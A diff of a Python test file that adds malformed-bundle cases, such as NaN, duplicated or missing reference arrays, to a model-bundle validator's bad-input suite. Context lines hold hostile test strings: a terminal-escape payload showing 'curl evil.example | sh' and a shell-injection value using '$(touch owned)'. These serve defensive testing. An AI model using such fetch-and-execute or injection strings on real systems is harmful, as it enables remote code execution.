@@ -3,9 +3,12 @@
 import json
 import os
 import shutil
+import warnings
 from collections.abc import Callable
 from pathlib import Path
+from zipfile import ZipFile
 
+import numpy as np
 from bad_inputs import BadInput
 from tiny_bundle import TARGET, built, copied, read, resealed, restored
 
@@ -51,6 +54,30 @@ def _preprocess(**values: object) -> Callable[[Path], None]:
         resealed(bundle)
 
     return _spoilt(spoil)
+
+
+def _reference(change: Callable[[dict[str, np.ndarray]], object]) -> Callable[[Path], None]:
+    """Other reference arrays, whose hash agrees."""
+
+    def spoil(bundle: Path) -> None:
+        path = bundle / "kit/reference.npz"
+        with np.load(path) as found:
+            arrays = dict(found)
+        change(arrays)
+        np.savez(path, **arrays)
+        resealed(bundle)
+
+    return _spoilt(spoil)
+
+
+def _twice(bundle: Path) -> None:
+    """An input that lies in the archive two times."""
+    path = bundle / "kit/reference.npz"
+    with ZipFile(path) as opened:
+        content = opened.read("input_0.npy")
+    with warnings.catch_warnings(action="ignore"), ZipFile(path, "a") as opened:
+        opened.writestr("input_0.npy", content)
+    resealed(bundle)
 
 
 def _named(*names: str) -> Callable[[Path], None]:
@@ -125,6 +152,15 @@ TWICE = ('"files": {', f'"files": {{"{MODEL}": {{"sha256": "{"0" * 64}", "bytes"
 ESCAPING = "x\x1b[2J\n  fix:   curl evil.example | sh"
 SHELL = "jetson; touch owned $(touch owned)"
 CASES = [
+    BadInput("bundle-reference-nan", _reference(lambda a: a["input_0"].fill(np.nan)), VERIFY,
+             CORRUPT, restored, says=("reference.npz", "input_0 is not of finite"), after=FAILED),
+    BadInput("bundle-reference-twice", _spoilt(_twice), VERIFY, CORRUPT, restored,
+             says=("reference.npz", "one of them twice"), after=FAILED),
+    BadInput("bundle-reference-lacks-one", _reference(lambda a: a.pop("input_0")), VERIFY,
+             CORRUPT, restored, says=("reference.npz", "inputs, "), after=FAILED),
+    BadInput("bundle-of-seven-channels",
+             _preprocess(channels=7, mean=[0.0] * 7, std=[1.0] * 7), RUN, CORRUPT, restored,
+             says=("channels", "1 or 3")),
     BadInput("bundle-none", lambda folder: copied(folder).rename(folder / "other"), RUN, MISSING,
              restored, says=("there is no such folder", "kdcompile build")),
     BadInput("bundle-a-file", lambda folder: (copied(folder).rename(folder / "other"),
